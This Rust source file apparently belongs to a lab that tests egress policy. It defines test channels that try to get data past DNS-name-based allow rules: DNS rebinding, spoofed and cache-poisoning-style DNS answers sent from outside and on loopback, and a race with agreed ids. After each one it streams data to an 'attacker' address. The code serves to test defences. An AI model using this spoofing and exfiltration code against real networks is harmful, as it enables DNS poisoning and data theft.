//! Answers that are to have an address allowed, and connections to it.

use std::{
    io::{self, Read, Write},
    net::{IpAddr, Shutdown, TcpStream, UdpSocket},
    time::Duration,
};

use crate::lab::{
    battery::{
        Aim, Channel,
        field::{Field, LEADS, Side, missing},
        frame::{Packet, octets},
        ledger::Pieces,
        wire::Wire,
    },
    probe::{Family, Knock},
};

use super::message::{A, AAAA, IN, Message, PORT, RESPONSE, record, wire};

/// What nobody answers is given up then.
const PATIENCE: Duration = Duration::from_secs(1);

/// The resolver's answer may come first; then it is tried again.
const ATTEMPTS: u16 = 20;

const TTL: u32 = 3600;

const ETHERNET: usize = 12;

/// Recursion is available.
const AVAILABLE: u16 = 0x0080;

pub(super) const FORBIDDEN: Channel = Channel {
    name: "dns-answer-forbidden",
    how: "an approved name whose owner has it lead to an address that a rule denies",
    seen_in: "DNS rebinding: Singularity of Origin, rbndr",
    aim: Aim::Stop,
    carry: |field, pieces| {
        let address = led(field, Family::V4, LEADS[0])?;
        connect(address, knock(field.wildcard()?.knock)?, pieces)
    },
    read: None,
};

pub(super) const ELSEWHERE: Channel = Channel {
    name: "dns-answer-elsewhere",
    how: "an approved name whose owner has it lead to an address of his own",
    seen_in: "forgotten names of clouds that somebody else has taken over",
    aim: Aim::OutOfScope {
        why: "who owns an approved name decides where it leads: that is what approving a name means",
        remedy: "deny the addresses that no name may lead to, name fewer wildcards, or approve addresses and service tags instead",
    },
    carry: |field, pieces| {
        let address = led(field, Family::V6, LEADS[1])?;
        connect(address, knock(field.wildcard()?.knock)?, pieces)
    },
    read: None,
};

pub(super) const FORGED_OUTSIDE: Channel = Channel {
    name: "dns-forged-outside",
    how: "answers from outside in the resolver's name, to no question or another one, and a second one to one that was asked",
    seen_in: "cache poisoning: Kaminsky's, SAD DNS",
    aim: Aim::Stop,
    carry: |field, pieces| {
        let outside = field.outside()?;
        let case = Case::new(field, Family::V4, 1)?;
        let forge = |id: u16, port: u16, name: &[u8], kind| {
            outside.send(&case.frame(&case.answer(id, name, kind), port))
        };
        let socket = case.socket()?;
        let port = socket.local_addr()?.port();
        let other = wire(&field.wildcard()?.name);
        forge(1, port, &case.name, case.kind)?;
        for id in 1..5 {
            socket.send(&case.question(id))?;
            forge(id ^ 0x100, port, &case.name, case.kind)?;
            forge(id, port ^ 1, &case.name, case.kind)?;
            forge(id, port, &other, case.kind)?;
            forge(id, port, &case.name.to_ascii_uppercase(), case.kind)?;
            case.answered(&socket)?;
            // Once more, and right in everything but that it is the second.
            forge(id, port, &case.name, case.kind)?;
        }
        connect(case.attacker, case.port, pieces)
    },
    read: None,
};

pub(super) const FORGED_INSIDE: Channel = Channel {
    name: "dns-forged-inside",
    how: "answers in the resolver's name from another process of the machine, right in everything, on the loopback interface",
    seen_in: "malware that answers the machine's own questions",
    aim: Aim::Stop,
    carry: |field, pieces| {
        field
            .host_only("answers are read on the host's loopback interface, not on a workload's")?;
        let loopback = Wire::of("lo")?;
        let case = Case::new(field, Family::V6, 1)?;
        let socket = case.socket()?;
        let port = socket.local_addr()?.port();
        for id in 1..5 {
            socket.send(&case.question(id))?;
            let answer = case.answer(id, &case.name, case.kind);
            let mut frame = case.frame(&answer, port);
            frame[..ETHERNET].fill(0);
            loopback.send(&frame)?;
            case.answered(&socket)?;
            loopback.send(&frame)?;
        }
        connect(case.attacker, case.port, pieces)
    },
    read: None,
};

pub(super) const AGREED: Channel = Channel {
    name: "dns-answer-agreed",
    how: "an answer from outside in the resolver's name, sooner than the resolver's, to a question whose id and port both ends have agreed upon",
    seen_in: "described; it takes somebody who can send in the resolver's name",
    aim: Aim::OutOfScope {
        why: "it is what the resolver would say, from where the resolver says it",
        remedy: "a resolver in whose name nobody else can send: the platform's, or one in a network that drops what comes from outside with its own addresses (BCP 38)",
    },
    carry: |field, pieces| {
        let outside = field.outside()?;
        let case = Case::new(field, Family::V4, 2)?;
        let socket = case.socket()?;
        let port = socket.local_addr()?.port();
        let mut result = Ok(());
        for id in 0..ATTEMPTS {
            let answer = case.frame(&case.answer(id, &case.name, case.kind), port);
            socket.send(&case.question(id))?;
            outside.send(&answer)?;
            result = connect(case.attacker, case.port, pieces);
            if result.is_ok() {
                break;
            }
        }
        result
    },
    read: None,
};

/// An approved name, and an address that it is to be said to have.
struct Case<'a> {
    field: &'a Field,
    side: &'a Side,
    resolver: IpAddr,
    name: Vec<u8>,
    kind: u16,
    /// The port that the policy opens for the name.
    port: u16,
    attacker: IpAddr,
}

impl<'a> Case<'a> {
    fn new(field: &'a Field, family: Family, other: usize) -> io::Result<Self> {
        let (side, name) = (field.side(family)?, field.exact()?);
        Ok(Self {
            field,
            side,
            resolver: side.resolver()?,
            name: wire(&name.name),
            kind: kind(family),
            port: knock(name.knock)?,
            attacker: side.others[other],
        })
    }

    fn socket(&self) -> io::Result<UdpSocket> {
        let socket = UdpSocket::bind((self.side.local, 0))?;
        socket.connect((self.resolver, PORT))?;
        socket.set_read_timeout(Some(PATIENCE))?;
        Ok(socket)
    }

    /// Waits for what the resolver itself says.
    fn answered(&self, socket: &UdpSocket) -> io::Result<()> {
        while gives(socket, self.attacker)? {}
        Ok(())
    }

    fn question(&self, id: u16) -> Vec<u8> {
        Message::ask(id, &self.name, self.kind).bytes()
    }

    /// An answer that gives a name the attacker's address.
    fn answer(&self, id: u16, name: &[u8], kind: u16) -> Vec<u8> {
        let mut answer = Message::ask(id, name, kind);
        answer.flags |= RESPONSE | AVAILABLE;
        answer
            .answers
            .push(record(name, kind, IN, TTL, &octets(self.attacker)));
        answer.bytes()
    }

    /// As the gateway would hand it to us.
    fn frame(&self, answer: &[u8], port: u16) -> Vec<u8> {
        let (from, to) = ((self.resolver, PORT), (self.side.local, port));
        let packet = Packet::udp(from, to, answer);
        let ethertype = packet.ethertype().to_be_bytes();
        let field = self.field;
        [
            &field.hardware[..],
            &field.gateway,
            &ethertype,
            &packet.bytes(),
        ]
        .concat()
    }
}

const fn kind(family: Family) -> u16 {
    match family {
        Family::V4 => A,
        Family::V6 => AAAA,
    }
}

fn knock(knock: Knock) -> io::Result<u16> {
    match knock {
        Knock::Tcp(port) => Ok(port),
        _ => Err(missing("the policy allows no TCP to the name")),
    }
}

/// Where a name below the wildcard leads, by the resolver's answer.
fn led(field: &Field, family: Family, label: &str) -> io::Result<IpAddr> {
    let side = field.side(family)?;
    let expected = if label == LEADS[0] {
        side.forbidden()?
    } else {
        side.others[0]
    };
    let name = wire(&format!("{label}.{}", field.wildcard()?.name));
    let socket = UdpSocket::bind((side.local, 0))?;
    socket.connect((side.resolver()?, PORT))?;
    socket.set_read_timeout(Some(PATIENCE))?;
    socket.send(&Message::ask(1, &name, kind(family)).bytes())?;
    let mut answer = [0; 1500];
    let length = socket.recv(&mut answer)?;
    let octets = octets(expected);
    let told = answer[..length]
        .windows(octets.len())
        .any(|it| it == octets);
    if told {
        Ok(expected)
    } else {
        Err(missing("the resolver leads no name elsewhere"))
    }
}

/// Whether the next answer gives this address.
fn gives(socket: &UdpSocket, address: IpAddr) -> io::Result<bool> {
    let mut answer = [0; 1500];
    let length = socket.recv(&mut answer)?;
    let octets = octets(address);
    let mut places = answer[..length].windows(octets.len());
    Ok(places.any(|place| place == octets))
}

fn connect(address: IpAddr, port: u16, pieces: &Pieces) -> io::Result<()> {
    let mut connection = TcpStream::connect_timeout(&(address, port).into(), PATIENCE)?;
    connection.set_write_timeout(Some(PATIENCE))?;
    connection.set_read_timeout(Some(PATIENCE))?;
    let mut echoes = connection.try_clone()?;
    std::thread::spawn(move || io::copy(&mut echoes, &mut io::sink()).ok());
    for piece in pieces.of(8192) {
        connection.write_all(&piece)?;
    }
    connection.shutdown(Shutdown::Write)?;
    // The sink has read all when it hangs up.
    while let Ok(1..) = connection.read(&mut [0; 1024]) {}
    Ok(())
}
